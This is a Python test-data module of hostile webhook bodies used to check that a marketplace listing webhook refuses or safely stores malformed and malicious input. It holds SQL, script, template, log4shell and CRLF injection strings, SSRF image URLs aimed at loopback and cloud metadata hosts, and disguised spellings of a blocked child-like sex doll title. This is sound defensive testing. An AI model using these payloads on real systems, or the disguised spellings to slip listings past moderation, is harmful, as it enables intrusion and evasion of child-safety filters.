"""Hostile webhook bodies: what a careless or malicious sender can put on the wire, and what we must answer.

Data only (plus the few builders that make it readable). tests/integration/test_hostile_bodies.py sends every
case, signed, over real HTTP to the real webhook. A 4xx case names the JSON pointer its problem+json must
carry in `errors[].pointer` ("" for the whole body, /headers/<name> for a header); a 200 case is odd but
valid and says what must hold of the answer and of what was stored.

Decisions this corpus pins down (see the comments in models.py and webhook.py for the why):
- duplicate keys are refused with 422 naming the key, anywhere in the body, escaped spellings included:
  parsers disagree on which copy wins, so a marketplace's validator and we could read different titles;
- NaN / Infinity / -Infinity are refused with 422 naming where they stand, even in fields we ignore;
- NUL (U+0000) inside a listing's text is refused with 422: downstream systems truncate or strip it;
- image URLs must be https on a public host: private, loopback, link-local, metadata, local and
  single-label hosts are refused with 422 naming /image_urls/N, in every spelling a URL parser accepts;
- a UTF-8 byte order mark, invalid UTF-8, escaped lone surrogates and nesting deeper than ~200 levels are
  not parseable JSON for us: 400;
- invisible characters, bidi controls, control characters and injection strings are valid text: screened
  through, stored verbatim, answered 200. Screening reads text as a page shows it: letters under a
  right-to-left override in their displayed order, control characters inside a word as nothing, between
  words as a space.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

JSON = "application/json"
MAX_BODY_BYTES = 256 * 1024  # the webhook's default limit (Settings.max_body_bytes)


@dataclass(frozen=True, slots=True)
class HostileCase:
    name: str
    body: bytes
    status: int
    pointer: str | None = None  # for a 4xx: the pointer errors[] must name
    content_type: str | None = JSON  # None: send no content-type at all
    decision: str | None = None  # for a 200: the decision screening must reach anyway
    verbatim: tuple[str, ...] = ()  # for a 200: top-level fields stored exactly as sent


def listing(**fields: object) -> bytes:
    """A small valid listing with `fields` replaced or added (a None value removes the field)."""
    document: dict[str, object] = {"id": "hostile-1", "title": "Ceramic teapot, 1 litre", **fields}
    return json.dumps({key: value for key, value in document.items() if value is not None}).encode()


def raw(text: str) -> bytes:
    """A body written as JSON text by hand, for what json.dumps would never produce."""
    return text.encode()


def sized(total: int) -> bytes:
    """A listing whose description pads the body to exactly `total` bytes."""
    skeleton = listing(description="")
    return listing(description="x" * (total - len(skeleton)))


def refused(name: str, body: bytes, pointer: str, status: int = 422, content_type: str | None = JSON) -> HostileCase:
    return HostileCase(name, body, status, pointer, content_type)


def unreadable(name: str, body: bytes) -> HostileCase:
    return HostileCase(name, body, 400, "")


def accepted(name: str, body: bytes, decision: str | None = None, verbatim: tuple[str, ...] = (),
             content_type: str | None = JSON) -> HostileCase:
    return HostileCase(name, body, 200, None, content_type, decision, verbatim)


# A child-like sex doll the base policy blocks from its title alone; the disguised spellings below must too.
BLOCKED_TITLE = "mini love doll 80cm young girl face"
ZWSP, ZWNJ, ZWJ, WJ = "\u200b", "\u200c", "\u200d", "\u2060"
RLO, LRO, PDF, RLI, PDI = "\u202e", "\u202d", "\u202c", "\u2067", "\u2069"

PRIVATE_IMAGE_HOSTS = [
    ("loopback", "https://127.0.0.1/a.jpg"),
    ("metadata", "https://169.254.169.254/latest/meta-data/"),
    ("ipv6 loopback", "https://[::1]/a.jpg"),
    ("private 10/8", "https://10.0.0.1/a.jpg"),
    ("decimal loopback", "https://2130706433/a.jpg"),
    ("short hex loopback", "https://0x7f.1/a.jpg"),
    ("ipv4-mapped loopback", "https://[::ffff:127.0.0.1]/a.jpg"),
    ("full-width loopback", "https://１２７．０．０．１/a.jpg"),
    ("percent-encoded host", "https://%31%32%37.0.0.1/a.jpg"),
    ("localhost", "https://localhost/a.jpg"),
    ("gcp metadata name", "https://metadata.google.internal/computeMetadata/v1/"),
    ("single-label name", "https://intranet/a.jpg"),
    ("alibaba metadata (cgnat)", "https://100.100.100.200/latest/meta-data/"),
]
PUBLIC_IMAGE = "https://img.example-marketplace.test/hostile-1/1.jpg"

CASES: list[HostileCase] = [
    # ---- not parseable JSON: 400 ----------------------------------------------------------------------
    unreadable("truncated object", raw('{"id": "hostile-1", "title": "Ceramic tea')),
    unreadable("truncated after a comma", raw('{"id": "hostile-1",')),
    unreadable("empty body", b""),
    unreadable("whitespace only", b" \r\n\t  "),
    unreadable("utf-8 byte order mark", b"\xef\xbb\xbf" + listing()),
    unreadable("utf-16 body", listing().decode().encode("utf-16")),
    unreadable("trailing garbage", listing() + b" trailing"),
    unreadable("two documents", listing() + listing()),
    unreadable("single quotes", raw("{'id': 'hostile-1', 'title': 'teapot'}")),
    unreadable("trailing comma", raw('{"id": "hostile-1", "title": "teapot",}')),
    unreadable("comment", raw('{"id": "hostile-1", /* hi */ "title": "teapot"}')),
    unreadable("10,000 levels of [", b"[" * 10_000),
    unreadable('10,000 levels of {"a":', b'{"a":' * 10_000),
    unreadable("10,000 levels closed, in an ignored field",
               listing()[:-1] + b', "extra": ' + b"[" * 10_000 + b"]" * 10_000 + b"}"),
    unreadable("escaped lone high surrogate", raw('{"id": "hostile-1", "title": "tea\\ud800pot"}')),
    unreadable("escaped lone low surrogate", raw('{"id": "hostile-1", "title": "tea\\udc00pot"}')),
    unreadable("raw invalid utf-8 (0xff)", b'{"id": "hostile-1", "title": "tea\xffpot"}'),
    unreadable("raw utf-8-encoded surrogate (cesu)", b'{"id": "hostile-1", "title": "tea\xed\xa0\x80pot"}'),
    unreadable("overlong utf-8 slash", b'{"id": "hostile-1", "title": "tea\xc0\xafpot"}'),
    HostileCase("latin-1 body labelled as such", '{"id": "hostile-1", "title": "théière"}'.encode("latin-1"), 400,
                "", "application/json; charset=iso-8859-1"),
    unreadable("raw NUL byte inside a string", b'{"id": "hostile-1", "title": "tea\x00pot"}'),
    unreadable("integer of 5,000 digits", listing()[:-1] + b', "extra": 1' + b"0" * 4999 + b"}"),
    # ---- not a listing object: 422 naming the whole body -----------------------------------------------
    refused("array body", raw('["hostile-1", "teapot"]'), ""),
    refused("array of a listing", b"[" + listing() + b"]", ""),
    refused("json string body", raw('"teapot"'), ""),
    refused("json number body", raw("42"), ""),
    refused("json null body", raw("null"), ""),
    refused("json true body", raw("true"), ""),
    # ---- required fields --------------------------------------------------------------------------------
    refused("missing id", listing(id=None), "/id"),
    refused("missing title", listing(title=None), "/title"),
    refused("empty object", raw("{}"), "/id"),
    refused("empty title", listing(title=""), "/title"),
    # ---- wrong types, field by field ---------------------------------------------------------------------
    refused("id as a number", listing(id=12), "/id"),
    refused("id as null", raw('{"id": null, "title": "teapot"}'), "/id"),
    refused("title as a number", listing(title=12), "/title"),
    refused("title as an array", listing(title=["tea", "pot"]), "/title"),
    refused("title as an object", listing(title={"en": "teapot"}), "/title"),
    refused("title as a boolean", listing(title=True), "/title"),
    refused("title as null", raw('{"id": "hostile-1", "title": null}'), "/title"),
    refused("description as a number", listing(description=5), "/description"),
    refused("category as an array", listing(category=["Home", "Kitchen"]), "/category"),
    refused("locale as a number", listing(locale=33), "/locale"),
    refused("price as a string", listing(price="12 EUR"), "/price"),
    refused("price.amount as a string", listing(price={"amount": "12", "currency": "EUR"}), "/price/amount"),
    refused("price.amount as a boolean", listing(price={"amount": True, "currency": "EUR"}), "/price/amount"),
    refused("price.currency as a number", listing(price={"amount": 12, "currency": 978}), "/price/currency"),
    refused("seller as a string", listing(seller="seller-1"), "/seller"),
    refused("seller.id as a number", listing(seller={"id": 5}), "/seller/id"),
    refused("seller.country as a number", listing(seller={"country": 250}), "/seller/country"),
    refused("seller.account_age_days as a string", listing(seller={"account_age_days": "9"}),
            "/seller/account_age_days"),
    refused("seller.account_age_days as a fraction", listing(seller={"account_age_days": 1.5}),
            "/seller/account_age_days"),
    refused("attributes as an array", listing(attributes=["red"]), "/attributes"),
    refused("attribute value as an object", listing(attributes={"size": {"h": 80}}), "/attributes/size"),
    refused("attribute value as an array", listing(attributes={"colours": ["red"]}), "/attributes/colours"),
    refused("attribute value as null", raw('{"id": "hostile-1", "title": "teapot", "attributes": {"x": null}}'),
            "/attributes/x"),
    refused("image_urls as a string", listing(image_urls=PUBLIC_IMAGE), "/image_urls"),
    refused("image url as a number", listing(image_urls=[42]), "/image_urls/0"),
    refused("gtin as a number", listing(gtin=12345678), "/gtin"),
    # ---- NaN and infinities (Python's json reads them; JSON has none) -------------------------------------
    refused("NaN title", raw('{"id": "hostile-1", "title": NaN}'), "/title"),
    refused("NaN price", raw('{"id": "hostile-1", "title": "teapot", "price": {"amount": NaN, "currency": "EUR"}}'),
            "/price/amount"),
    refused("Infinity price", raw('{"id": "hostile-1", "title": "teapot", "price": {"amount": Infinity, '
                                  '"currency": "EUR"}}'), "/price/amount"),
    refused("-Infinity account age", raw('{"id": "hostile-1", "title": "teapot", "seller": {"account_age_days": '
                                         "-Infinity}}"), "/seller/account_age_days"),
    refused("Infinity attribute", raw('{"id": "hostile-1", "title": "teapot", "attributes": {"weight": Infinity}}'),
            "/attributes/weight"),
    refused("NaN in an ignored field", raw('{"id": "hostile-1", "title": "teapot", "extra": [1, NaN]}'),
            "/extra/1"),
    refused("1e400 price (overflows to infinity)", raw('{"id": "hostile-1", "title": "teapot", '
                                                       '"price": {"amount": 1e400, "currency": "EUR"}}'),
            "/price/amount"),
    # ---- sizes ----------------------------------------------------------------------------------------------
    refused("id of 129 chars", listing(id="i" * 129), "/id"),
    refused("title of 501 chars", listing(title="t" * 501), "/title"),
    accepted("title of 500 astral chars (limits count code points)", listing(title="\U0001f375" * 500),
             verbatim=("title",)),
    refused("description of 20,001 chars", listing(description="d" * 20_001), "/description"),
    refused("attribute value of 1,001 chars", listing(attributes={"notes": "n" * 1001}), "/attributes/notes"),
    refused("attribute key of 101 chars", listing(attributes={"k" * 101: "v"}), "/attributes/" + "k" * 101),
    refused("51 image urls", listing(image_urls=[f"{PUBLIC_IMAGE}?n={n}" for n in range(51)]), "/image_urls"),
    refused("101 attributes", listing(attributes={f"a{n}": n for n in range(101)}), "/attributes"),
    refused("account age of 10^30 days", listing(seller={"account_age_days": 10**30}), "/seller/account_age_days"),
    refused("body of exactly 256 KB (the limit is inclusive)", sized(MAX_BODY_BYTES), "/description"),
    refused("body of 256 KB + 1 byte", sized(MAX_BODY_BYTES + 1), "", status=413),
    # ---- duplicate keys: refused, whichever copy a parser would keep ------------------------------------------
    refused("duplicate title", raw('{"id": "hostile-1", "title": "Ceramic teapot", "title": "mini love doll"}'),
            "/title"),
    refused("duplicate title, escaped spelling", raw('{"id": "hostile-1", "title": "Ceramic teapot", '
                                                     '"t\\u0069tle": "mini love doll"}'), "/title"),
    refused("duplicate id", raw('{"id": "hostile-1", "id": "hostile-2", "title": "teapot"}'), "/id"),
    refused("duplicate price.amount", raw('{"id": "hostile-1", "title": "teapot", "price": '
                                          '{"amount": 1, "currency": "EUR", "amount": -1}}'), "/price/amount"),
    refused("duplicate attribute", raw('{"id": "hostile-1", "title": "teapot", "attributes": '
                                       '{"age": "adult", "age": "child"}}'), "/attributes/age"),
    refused("duplicate key in an ignored field", raw('{"id": "hostile-1", "title": "teapot", "extra": '
                                                     '[{"a": 1, "a": 2}]}'), "/extra/0/a"),
    # ---- NUL inside text ------------------------------------------------------------------------------------
    refused("NUL in the title", listing(title="s\u0000ex doll"), "/title"),
    refused("NUL in the description", listing(description="tea\u0000pot"), "/description"),
    refused("NUL in an attribute value", listing(attributes={"material": "sili\u0000cone"}), "/attributes/material"),
    refused("NUL in the seller id", listing(seller={"id": "seller\u00001"}), "/seller/id"),
    accepted("NUL in an ignored field", listing(extra="a\u0000b")),
    # ---- invisible characters and bidi controls: valid, and screening sees through them -----------------------
    accepted("plain blocked title (reference)", listing(title=BLOCKED_TITLE), decision="block", verbatim=("title",)),
    accepted("zero-width characters inside words",
             listing(title=f"mini lo{ZWSP}ve d{ZWNJ}o{ZWJ}ll 80cm you{WJ}ng gi{ZWSP}rl face"),
             decision="block", verbatim=("title",)),
    accepted("bidi overrides and isolates inside words",
             listing(title=f"{RLI}mini{PDI} l{RLO}o{PDF}ve {LRO}doll{PDF} 80cm young g{RLO}i{PDF}rl face"),
             decision="block", verbatim=("title",)),
    accepted("right-to-left override around an innocent title", listing(title=f"{RLO}Ceramic teapot{PDF}"),
             decision="allow", verbatim=("title",)),
    accepted("right-to-left override reversing letters inside words",
             listing(title=f"mini lo{RLO}ev{PDF} {RLO}llod{PDF} 80cm young g{RLO}lri{PDF} face"),
             decision="block", verbatim=("title",)),
    accepted("right-to-left override left open to the end of the title",
             listing(title=f"mini {RLO}ecaf lrig gnuoy mc08 llod evol"), decision="block", verbatim=("title",)),
    accepted("control characters inside words (VT, NEL, US, DEL)",
             listing(title="mini lo\u000bve d\u0085oll 80cm you\u001fng gi\u007frl face"),
             decision="block", verbatim=("title",)),
    accepted("control characters between words and numbers",
             listing(title="mini\u000b love doll\u000b80cm young\u0085 girl face\u001f"), decision="block",
             verbatim=("title",)),
    accepted("control characters around an innocent title", listing(title="Ceramic\u000bteapot\u001f1\u0085litre"),
             decision="allow", verbatim=("title",)),
    # ---- injection strings: plain text to us, stored verbatim ---------------------------------------------------
    accepted("sql injection", listing(title="Teapot'); DROP TABLE listings;--", description="' OR '1'='1"),
             decision="allow", verbatim=("title", "description")),
    accepted("script tag", listing(title="<script>alert(document.cookie)</script> teapot",
                                   description='<img src=x onerror="alert(1)">'),
             decision="allow", verbatim=("title", "description")),
    accepted("template injection", listing(title="{{7*7}} teapot ${7*7} #{7*7}", category="{{config}}"),
             decision="allow", verbatim=("title", "category")),
    accepted("log4shell", listing(title="${jndi:ldap://x/a} teapot", attributes={"brand": "${jndi:ldap://x}"}),
             decision="allow", verbatim=("title", "attributes")),
    accepted("CRLF header injection", listing(title="Teapot\r\nX-Injected: 1\r\n\r\n<html>"),
             decision="allow", verbatim=("title",)),
    accepted("json pointer metacharacters in an attribute key", listing(attributes={"a/b~c": "teapot"}),
             decision="allow", verbatim=("attributes",)),
    # ---- image urls ---------------------------------------------------------------------------------------------
    accepted("public https image", listing(image_urls=[PUBLIC_IMAGE]), decision="allow", verbatim=("image_urls",)),
    refused("javascript: image", listing(image_urls=["javascript:alert(1)"]), "/image_urls/0"),
    refused("file: image", listing(image_urls=["file:///etc/passwd"]), "/image_urls/0"),
    refused("http: image", listing(image_urls=["http://img.example-marketplace.test/1.jpg"]), "/image_urls/0"),
    refused("data: image", listing(image_urls=["data:image/png;base64,iVBORw0KGgo="]), "/image_urls/0"),
    refused("userinfo in the image url", listing(image_urls=["https://img.test@127.0.0.1/a.jpg"]), "/image_urls/0"),
    refused("backslash before the host ends", listing(image_urls=["https://127.0.0.1\\.img.test/a.jpg"]),
            "/image_urls/0"),
    *(refused(f"{label} image host", listing(image_urls=[PUBLIC_IMAGE, url]), "/image_urls/1")
      for label, url in PRIVATE_IMAGE_HOSTS),
    # ---- content types ----------------------------------------------------------------------------------------
    refused("text/plain", listing(), "/headers/content-type", status=415, content_type="text/plain"),
    refused("form-encoded", b"id=hostile-1&title=teapot", "/headers/content-type", status=415,
            content_type="application/x-www-form-urlencoded"),
    refused("no content-type", listing(), "/headers/content-type", status=415, content_type=None),
    refused("json in multipart", listing(), "/headers/content-type", status=415,
            content_type="multipart/form-data; boundary=x"),
    accepted("application/json with charset", listing(), decision="allow",
             content_type="application/json; charset=utf-8"),
    accepted("a +json media type", listing(), decision="allow", content_type="application/vnd.marketplace+json"),
]
